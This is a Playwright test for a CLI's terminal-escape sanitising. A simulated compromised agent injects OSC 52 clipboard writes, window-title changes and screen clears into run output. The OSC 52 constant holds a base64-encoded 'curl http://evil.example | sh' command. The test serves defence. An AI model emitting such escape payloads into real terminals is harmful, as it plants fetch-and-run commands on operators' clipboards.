// A compromised agent answers `npx probebook run --wait` with escape sequences in the run's output
// and in its error: OSC 52 (write the operator's clipboard), OSC 0 (window title), CSI 2J (clear
// the screen). The real CLI process must print none of them — no ESC byte on stdout or stderr —
// unless --raw asks for the output as sent (the error stays sanitized even then).
import { execFile } from "node:child_process";
import path from "node:path";
import { type APIRequestContext } from "@playwright/test";
import { expect, test } from "../fixtures";
import { apiTokenFor, registerFakeAgent } from "../helpers";

const root = path.resolve(__dirname, "..", "..");

const OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07";
const OSC0 = "\x1b]0;pwned\x07";
const CLEAR = "\x1b[2J";

function cli(args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [path.join(root, "bin", "probebook.cjs"), ...args], { cwd: root, env: { ...process.env, ...env }, timeout: 90_000 }, (err, stdout, stderr) => {
      const code = err ? (typeof (err as { code?: unknown }).code === "number" ? (err as { code: number }).code : -1) : 0;
      resolve({ code, stdout, stderr });
    });
  });
}

/** Plays the compromised agent: claims the CLI's run, sends hostile output and a hostile error. */
async function hostileAgent(request: APIRequestContext, agent: Record<string, string>): Promise<void> {
  let runId: string | null = null;
  for (let i = 0; i < 100 && !runId; i++) {
    const claim = await request.post("/api/agent/jobs/claim", { headers: agent, data: { waitSec: 1 } });
    if (claim.status() === 200) runId = ((await claim.json()) as { runId?: string }).runId ?? null;
  }
  expect(runId).not.toBeNull();
  const chunks = [
    { seq: 0, data: `dd: starting${OSC0}\n` },
    { seq: 1, data: `${CLEAR}copy this: ${OSC52}\n` },
    // A sequence split across two chunks.
    { seq: 2, data: "tail \x1b]0;spl" },
    { seq: 3, data: "it\x07 done\n" },
  ];
  expect((await request.post(`/api/agent/runs/${runId}/chunks`, { headers: agent, data: { chunks } })).status()).toBe(200);
  const fin = await request.post(`/api/agent/runs/${runId}/finish`, {
    headers: agent,
    data: { exitCode: 1, signal: null, durationMs: 5, lastSeq: 3, error: `disk error${OSC52}${OSC0}${CLEAR} while writing`, cancelled: false, timedOut: false, interrupted: false, profile: null },
  });
  expect(fin.status()).toBe(200);
}

test("probebook run --wait prints no escape sequence from the agent's output or error; --raw keeps the output as sent", async ({ request, baseURL }) => {
  test.setTimeout(120_000);
  const token = await apiTokenFor("operator");
  const host = await registerFakeAgent(request, token, "cli-escapes");
  const env = { PROBEBOOK_SERVER: baseURL!, PROBEBOOK_TOKEN: token };
  const args = ["run", "--host", host.id, "--preset", "dd:write-direct", "--param", "sizeMiB=4", "--wait"];

  const [plain] = await Promise.all([cli(args, env), hostileAgent(request, host.agent)]);
  expect(plain.code, plain.stderr).toBe(1);
  expect(plain.stdout).not.toContain("\x1b");
  expect(plain.stderr).not.toContain("\x1b");
  expect(plain.stdout).not.toContain("\x07");
  expect(plain.stderr).not.toContain("\x07");
  // The words are still there; the split sequence left nothing of itself.
  expect(plain.stdout).toContain("copy this: ");
  expect(plain.stdout).toContain("tail  done");
  expect(plain.stdout).not.toContain("it done");
  expect(plain.stderr).toContain("disk error while writing");

  const [raw] = await Promise.all([cli([...args, "--raw"], env), hostileAgent(request, host.agent)]);
  expect(raw.code, raw.stderr).toBe(1);
  expect(raw.stdout).toContain(OSC52);
  expect(raw.stderr).not.toContain("\x1b");
  expect(raw.stderr).toContain("disk error while writing");
});
